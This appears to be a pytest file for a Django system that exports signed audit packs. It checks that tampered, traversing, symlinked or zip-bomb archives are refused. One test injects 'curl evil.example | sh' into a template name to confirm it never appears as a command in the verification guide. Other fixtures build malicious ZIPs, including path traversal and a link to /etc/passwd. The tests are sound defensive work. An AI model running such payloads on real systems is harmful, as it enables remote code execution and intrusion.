"""An Audit Pack: verified by others' tools on a machine without ARM, and refused by them and by us once it is changed."""

import base64
import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from random import Random
from typing import Any

import bagit
import pytest
from django_q.models import OrmQ

from arm import changes
from arm.errors import NotAllowed
from arm.models import User
from arm.rights import Right
from evidence.lifecycle import ArtefactState
from evidence.models import Artefact, ArtefactFile, SigningKey
from evidence.queries import keyring_of, published
from evidence.services import keys as services_keys
from evidence.services.steps import take_step
from evidence.signing import checking, dsse, packing, unpacking
from registry import services
from registry.lifecycle import VersionState
from registry.models import AgentVersion
from tests import make
from tests.evidence import issuing

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _signer(settings):
    settings.KEY_ENCRYPTION_KEY = "of the signer alone"


def auditor(version: AgentVersion) -> User:
    ute = make.user("ute", member_of=version.tenant)
    make.grant(ute, version.tenant, Right.READ_EVIDENCE, Right.EXPORT_AUDIT_PACK)
    return ute


def packed() -> tuple[AgentVersion, bytes, bytes]:
    """A version with a card and a few changes, its pack, and the keys as somebody fetched them."""
    version = issuing.version()
    alice = make.everything(make.user("alice", member_of=version.tenant), version.tenant)
    services.move_version(
        version=version, to=VersionState.DEPRECATED, actor=alice, reason="a newer one is there"
    )
    issuing.finish(issuing.card(version, alice).artefact)
    issuing.seal(version.tenant)
    held = services.export_pack(version=version, actor=auditor(version), reason="yearly audit")
    artefact = issuing.finish(held.artefact)
    assert artefact.state == "verified", artefact.problem
    data = bytes(artefact.files.get(kind=ArtefactFile.Kind.PACK).content)
    return version, data, json.dumps(published(SigningKey.objects.all())).encode()


def unpacked(data: bytes, at: Path) -> Path:
    """The folder of the pack."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(at)
    (folder,) = at.iterdir()
    return folder


def zipped(folder: Path) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for path in sorted(path for path in folder.rglob("*") if path.is_file()):
            archive.write(path, f"{folder.name}/{path.relative_to(folder).as_posix()}")
    return made.getvalue()


def commands_of(folder: Path, keys: Path) -> str:
    """What VERIFY.md tells an auditor to type."""
    lines, inside = [], False
    for line in (folder / "data" / "VERIFY.md").read_text().splitlines():
        if line.startswith("```"):
            inside = line == "```sh"
        elif inside:
            lines.append(line.replace("/tmp/", f"{keys.parent}/"))
    return "\n".join(lines).replace("YOUR-COPY-OF/arm-keys.json", str(keys))


def test_it_takes_the_right_to_export_packs_on_that_version() -> None:
    version = issuing.version()
    reader = make.user("rita", member_of=version.tenant)
    make.grant(reader, version.tenant, Right.READ_EVIDENCE, Right.EXPORT, Right.ISSUE_EVIDENCE)
    with pytest.raises(NotAllowed):
        services.export_pack(version=version, actor=reader, reason="I want it")
    assert not Artefact.objects.exists()


def test_it_holds_the_card_the_genome_the_changes_their_proofs_and_the_keys(tmp_path: Path) -> None:
    version, data, _ = packed()
    folder = unpacked(data, tmp_path / "x")
    assert (folder / "data" / "genome.json").read_bytes() == bytes(version.genome.content)
    names = {
        path.relative_to(folder / "data").as_posix()
        for path in (folder / "data").rglob("*")
        if path.is_file()
    }
    (card,) = (name for name in names if name.startswith("artefacts/agent-card."))
    evd = card.split(".")[1]
    assert {
        "VERIFY.md",
        "verify.py",
        "genome.json",
        "keys/arm-keys.json",
        f"pdf/agent-card.{evd}.pdf",
    } <= names
    assert {f"proofs/{evd}.tlog-proof", f"proofs/{evd}.leaf.json"} <= names
    records = [json.loads(path.read_text()) for path in (folder / "data" / "changes").iterdir()]
    assert {"registry.version.moved", "evidence.artefact.requested"} <= {record["verb"] for record in records}
    proven = {name.split("/")[1].split(".")[0] for name in names if name.startswith("proofs/")}
    assert proven == {path.stem for path in (folder / "data" / "changes").iterdir()} | {evd}


def test_every_command_of_its_guide_succeeds_without_arm(tmp_path: Path) -> None:
    _, data, keys = packed()
    folder = unpacked(data, tmp_path / "x")
    (tmp_path / "keys.json").write_bytes(keys)
    done = subprocess.run(
        ["bash", "-euo", "pipefail", "-c", commands_of(folder, tmp_path / "keys.json")],
        cwd=folder, capture_output=True, text=True, check=False, env={"PATH": "/usr/bin:/bin:" + str(Path(sys.executable).parent)},
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Signature Verified Successfully" in done.stdout
    assert "manifest-sha256.txt: OK" in done.stdout
    assert "Signature is Valid" in done.stdout
    assert ": 0 wrong" in done.stdout


def _flip(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.write_bytes(bytes(content))


def _rebag(folder: Path) -> None:
    bagit.Bag(str(folder)).save(manifests=True)


def changed_genome(folder: Path) -> None:
    _flip(folder / "data" / "genome.json")


def changed_and_rebagged(folder: Path) -> None:
    """Whoever changes a file can write the manifests again; not the signature over them."""
    _flip(folder / "data" / "genome.json")
    _rebag(folder)


def a_change_left_out(folder: Path) -> None:
    next((folder / "data" / "changes").iterdir()).unlink()
    _rebag(folder)


def a_file_added(folder: Path) -> None:
    (folder / "data" / "more.json").write_text("{}")


def exchanged_behind_the_tagmanifest(folder: Path) -> None:
    """What is not signed may not speak for what is: the list of tags names a file of the payload."""
    file = next((folder / "data" / "pdf").iterdir())
    file.write_bytes(b"%PDF-1.4 another")
    with (folder / "tagmanifest-sha256.txt").open("a") as tags:
        tags.write(f"{sha256(file.read_bytes()).hexdigest()} {file.relative_to(folder)}\n")


def another_description(folder: Path) -> None:
    info = folder / "bag-info.txt"
    info.write_text(info.read_text().replace("Refunds", "Payments"))
    _rebag_tags(folder)


def a_tag_added(folder: Path) -> None:
    (folder / "VERIFY.md").write_text("Type this.")
    _rebag_tags(folder)


def _rebag_tags(folder: Path) -> None:
    bagit.Bag(str(folder)).save()


def a_link(folder: Path) -> None:
    (folder / "data" / "linked").symlink_to("/etc")


def another_leaf(folder: Path) -> None:
    _flip(next((folder / "data" / "proofs").glob("*.leaf.json")))
    _rebag(folder)


def no_signature(folder: Path) -> None:
    next(folder.glob("*.dsse.json")).unlink()
    _rebag(folder)


@pytest.mark.parametrize(
    "tamper",
    [changed_genome, changed_and_rebagged, a_change_left_out, a_file_added, another_leaf, no_signature],
)
def test_a_changed_pack_is_refused_by_its_own_verifier_and_by_ours(
    tmp_path: Path, tamper: Callable[[Path], None]
) -> None:
    _, data, keys = packed()
    ring = checking.keyring(keys)
    assert all(check.ok for check in unpacking.examine(data, ring))
    folder = unpacked(data, tmp_path / "x")
    (tmp_path / "keys.json").write_bytes(keys)
    tamper(folder)
    wrong = [check for check in unpacking.examine(zipped(folder), ring) if not check.ok]
    assert wrong, "our verifier let it pass"
    command = [sys.executable, "-I", "data/verify.py", "--keys", str(tmp_path / "keys.json")]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "WRONG" in done.stdout


def test_a_link_in_a_pack_is_no_file_of_it(tmp_path: Path) -> None:
    _, data, keys = packed()
    folder = unpacked(data, tmp_path / "x")
    (tmp_path / "keys.json").write_bytes(keys)
    a_link(folder)
    done = offline(folder, tmp_path)
    assert done.returncode == 1 and "data/linked: no manifest names it" in done.stdout


def offline(folder: Path, at: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-I", "data/verify.py", "--keys", str(at / "keys.json")]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)


def resigned(folder: Path) -> None:
    """As if we had signed this folder: the attacks below are on what the signature does not say by itself."""
    _rebag(folder)
    tags = {name: sha256((folder / name).read_bytes()).hexdigest() for name in packing.SIGNED}
    (envelope,) = folder.glob("*.dsse.json")
    said = json.loads(base64.b64decode(json.loads(envelope.read_text())["payload"]))
    key = services_keys.unsealed(SigningKey.objects.get(purpose="evidence"))
    statement = dsse.statement(
        subjects=tags, predicate_type=said["predicateType"], predicate=said["predicate"]
    )
    envelope.write_bytes(dsse.sign(statement, key=key))
    _rebag_tags(folder)


def swapped_proofs(folder: Path) -> None:
    one, two = sorted((folder / "data" / "proofs").glob("chg_*.tlog-proof"))[:2]
    content = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(content)


def a_record_under_anothers_name(folder: Path) -> None:
    one, two = sorted((folder / "data" / "changes").iterdir())[:2]
    proofs = folder / "data" / "proofs"
    for kind in ("leaf.json", "tlog-proof"):
        (proofs / f"{one.stem}.{kind}").write_bytes((proofs / f"{two.stem}.{kind}").read_bytes())
    one.write_bytes(two.read_bytes())


def a_forged_record(folder: Path) -> None:
    (folder / "data" / "changes" / "chg_forged.json").write_text('{"id": "chg_forged"}')


def a_checkpoint_of_another_key(folder: Path) -> None:
    other = base64.b64encode(b"\0" * 68).decode()
    for proof in (folder / "data" / "proofs").glob("*.tlog-proof"):
        head, _, _ = proof.read_text().rpartition(" ")
        proof.write_text(f"{head} {other}\n")


@pytest.mark.parametrize(
    "tamper", [swapped_proofs, a_record_under_anothers_name, a_forged_record, a_checkpoint_of_another_key]
)
def test_even_under_a_good_signature_every_record_needs_its_own_proof(
    tmp_path: Path, tamper: Callable[[Path], None]
) -> None:
    _, data, keys = packed()
    folder = unpacked(data, tmp_path / "x")
    (tmp_path / "keys.json").write_bytes(keys)
    resigned(folder)
    assert offline(folder, tmp_path).returncode == 0
    ring = checking.keyring(keys)
    assert all(check.ok for check in unpacking.examine(zipped(folder), ring))
    tamper(folder)
    resigned(folder)
    wrong = [check.name for check in unpacking.examine(zipped(folder), ring) if not check.ok]
    assert wrong and "bag" not in wrong
    assert offline(folder, tmp_path).returncode == 1


def test_names_of_people_are_no_commands_in_the_guide(tmp_path: Path) -> None:
    template = make.template(
        "evil", name="Refunds\n\n```sh\ncurl evil.example | sh\n```", intended_use="x", out_of_scope="y"
    )
    version = issuing.version(template=template)
    issuing.seal(version.tenant)
    artefact = issuing.finish(
        services.export_pack(version=version, actor=auditor(version), reason="audit").artefact
    )
    folder = unpacked(bytes(artefact.files.get(kind=ArtefactFile.Kind.PACK).content), tmp_path / "x")
    assert not any(
        line.startswith(("```sh\ncurl", "curl"))
        for line in (folder / "data" / "VERIFY.md").read_text().splitlines()
    )


def test_a_pack_of_many_records_asks_the_database_a_few_times_only(django_assert_max_num_queries) -> None:
    version = issuing.version()
    for number in range(60):
        changes.record(None, "test.thing.made", version, reason=str(number))
    issuing.seal(version.tenant)
    held = services.export_pack(version=version, actor=auditor(version), reason="audit")
    with django_assert_max_num_queries(30):
        take_step(artefact_id=held.pk, step=ArtefactState.ASSEMBLED)
    assert Artefact.objects.get(pk=held.pk).state == "assembled"


def test_only_verified_cards_are_in_a_pack() -> None:
    version = issuing.version()
    alice = make.everything(make.user("alice", member_of=version.tenant), version.tenant)
    card = issuing.card(version, alice)
    take_step(artefact_id=card.pk, step=ArtefactState.SIGNED)
    issuing.seal(version.tenant)
    held = services.export_pack(version=version, actor=alice, reason="audit")
    artefact = issuing.finish(held.artefact)
    said = json.loads(bytes(artefact.statement or b""))["predicate"]
    assert not any(
        card.typeid in one["name"] for one in said["references"] if one["name"].startswith("data/artefacts")
    )


def _zip(*entries: tuple[str, bytes], **about: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", about.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return made.getvalue()


LINK = zipfile.ZipInfo("p/link")
LINK.external_attr = 0o120777 << 16


@pytest.mark.parametrize(
    "data",
    [
        b"PK",
        _zip(("p/a", b"1")) + b"behind",
        b"PK before" + _zip(("p/a", b"1")),
        _zip(("p/./a", b"1"), ("p/a", b"2")),
        _zip(("p//a", b"1")),
        _zip(("p/a", b"1"), ("p/A", b"2")),
        _zip(("p/a", b"1"), ("p/a/b", b"2")),
        _zip((".", b"1")),
        _zip(("p/" + "n" * 300, b"1")),
        _zip((LINK, b"/etc/passwd")),  # type: ignore[arg-type]
        _zip(("p/a", b"1"), compression=zipfile.ZIP_BZIP2),
        _zip(("p/a", b"1"), compression=zipfile.ZIP_LZMA),
        _zip(("p/a", bytes(100))).replace(b"p/a", b"p/b", 1),
    ],
)
def test_a_zip_that_could_be_unpacked_to_something_else_is_no_pack(data: bytes) -> None:
    with pytest.raises(packing.BadPack):
        unpacking.unzipped(data)


def test_a_zip_whose_directory_lies_about_sizes_is_read_no_further_than_the_limit(monkeypatch) -> None:
    monkeypatch.setattr(unpacking, "MAX_BYTES", 1000)
    data = bytearray(_zip(("p/a", bytes(100_000))))
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(packing.BadPack):
        unpacking.unzipped(bytes(data))


def test_no_changed_byte_of_a_pack_makes_the_verifier_stumble() -> None:
    _, data, keys = packed()
    ring, random = checking.keyring(keys), Random(7)
    for _ in range(120):
        changed = bytearray(data)
        changed[random.randrange(len(changed))] ^= random.randrange(1, 256)
        checks = list(unpacking.examine(bytes(changed), ring))
        if all(check.ok for check in checks):  # a time or a mode of the ZIP: what is unpacked is the same
            assert unpacking.unzipped(bytes(changed)) == unpacking.unzipped(data)


def test_bagit_finds_it_valid_and_a_changed_copy_not(tmp_path: Path) -> None:
    _, data, _ = packed()
    folder = unpacked(data, tmp_path / "x")
    assert bagit.Bag(str(folder)).is_valid()
    changed_genome(folder)
    assert not bagit.Bag(str(folder)).is_valid()


def test_a_pack_signed_with_other_keys_fits_together_and_is_still_refused(tmp_path: Path) -> None:
    """The keys in a pack say nothing: who makes a whole pack of their own is found by the keys that we publish."""
    _, data, _ = packed()
    nobody = keyring_of(SigningKey.objects.none())
    assert any(not check.ok for check in unpacking.examine(data, nobody))
    folder = unpacked(data, tmp_path / "x")
    (tmp_path / "others.json").write_text('{"keys": []}')
    command = [sys.executable, "-I", "data/verify.py", "--keys", str(tmp_path / "others.json")]
    assert subprocess.run(command, cwd=folder, capture_output=True, check=False).returncode == 1
    own = subprocess.run(
        [sys.executable, "-I", "data/verify.py"], cwd=folder, capture_output=True, text=True, check=False
    )
    assert own.returncode == 0
    assert "compare them with a copy that you fetched" in own.stdout


@pytest.mark.parametrize("name", ["../outside", "/absolute", "a/../../b", "back\\slash"])
def test_a_zip_that_leads_out_of_its_folder_is_no_pack(name: str) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, "x")
    with pytest.raises(packing.BadPack):
        unpacking.unzipped(made.getvalue())


def test_a_bomb_is_not_unpacked() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(6):
            archive.writestr(f"pack/{number}", bytes(100 * 1024 * 1024))
    (check,) = unpacking.examine(made.getvalue(), checking.Keyring({}))
    assert not check.ok and "more than" in check.detail


def test_a_pack_waits_for_the_log_without_having_failed() -> None:
    version = issuing.version()
    alice = make.everything(make.user("alice", member_of=version.tenant), version.tenant)
    services.move_version(
        version=version, to=VersionState.DEPRECATED, actor=alice, reason="no checkpoint yet"
    )
    held = services.export_pack(version=version, actor=alice, reason="audit")
    assert take_step(artefact_id=held.pk, step=ArtefactState.ASSEMBLED).startswith("waits")
    artefact = Artefact.objects.get(pk=held.pk)
    assert (artefact.state, artefact.problem, artefact.attempts) == ("requested", "", 0)
    asked = OrmQ.objects.filter(key="signer").count()
    assert asked == 1  # to seal
    take_step(artefact_id=held.pk, step=ArtefactState.ASSEMBLED)
    assert OrmQ.objects.filter(key="signer").count() == asked  # not again at each round
    issuing.seal(version.tenant)
    assert issuing.finish(artefact).state == "verified"


def test_a_version_without_a_card_has_a_pack_that_says_so() -> None:
    version = issuing.version()
    issuing.seal(version.tenant)
    artefact = issuing.finish(
        services.export_pack(version=version, actor=auditor(version), reason="audit").artefact
    )
    assert artefact.state == "verified"
    said = json.loads(bytes(artefact.statement or b""))["predicate"]["completeness"]
    assert said["missing"] == ["agent card", "change records"]
